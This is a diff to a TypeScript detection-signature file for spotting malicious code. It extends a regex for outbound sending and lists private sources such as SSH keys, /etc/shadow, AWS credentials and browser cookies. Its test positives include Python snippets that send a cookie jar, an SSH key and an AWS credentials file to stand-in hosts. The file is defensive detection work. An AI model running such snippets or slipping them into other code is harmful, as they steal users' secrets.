@@ -9,7 +9,11 @@
  */
 import type { BuiltinSignature } from "./types";
 
-const SEND = String.raw`(?:requests\.(?:post|put)\(|\.sendall\(|\.send\(|urlopen\(|smtplib|ftplib|publish\.single\(|\.upload\(|sftp\.put\()`;
+// Sending: a POST or PUT (requests, http.client's `request("POST", …)`), a socket, mail or
+// FTP, or any request that carries cookies (`requests.get(url, cookies=jar)` hands them to the host).
+const SEND =
+  String.raw`(?:requests\.(?:post|put)\(|\.request\(\s{0,4}["'](?:POST|PUT)["']|requests\.\w{3,7}\([^)\n]{0,200}?\bcookies\s{0,4}=|` +
+  String.raw`\.sendall\(|\.send\(|urlopen\(|smtplib|ftplib|publish\.single\(|\.upload\(|sftp\.put\()`;
 const PRIVATE_SOURCE =
   String.raw`(?:geocoder\.ip\(\s{0,4}["']me["']|id_rsa|\.ssh\/|private[/_]key|\/etc\/shadow|\.aws\/credentials|Login Data|cookies\.(?:txt|sqlite)|` +
   String.raw`http\.cookiejar|browser_cookie3|pyperclip\.paste|win32clipboard|\/Trash\b|\/trash\/|\$Recycle\.Bin|keychain)`;
@@ -113,8 +117,14 @@ export const MALICIOUS_CODE: readonly BuiltinSignature[] = [
       positive: [
         'location = geocoder.ip("me").latlng\nrequests.post("https://collect.example/loc", data={"lat": location[0]})',
         'with open("/home/u/.ssh/id_rsa") as f:\n    s.sendall(f.read().encode())',
+        'jar = http.cookiejar.MozillaCookieJar("saved.txt")\njar.load()\nrequests.get("https://stats.example.net/p", cookies=jar)',
+        'with open("/Users/me/.aws/credentials", "rb") as f:\n    conn.request("PUT", "/drop", f.read())',
       ],
-      negative: ['location = geocoder.ip("me").latlng\nprint(location)', "Where does ssh keep id_rsa by default?"],
+      negative: [
+        'location = geocoder.ip("me").latlng\nprint(location)',
+        "Where does ssh keep id_rsa by default?",
+        'jar = http.cookiejar.CookieJar()\nopener = build_opener(HTTPCookieProcessor(jar))\nprint(len(jar))',
+      ],
     },
   },
 ];
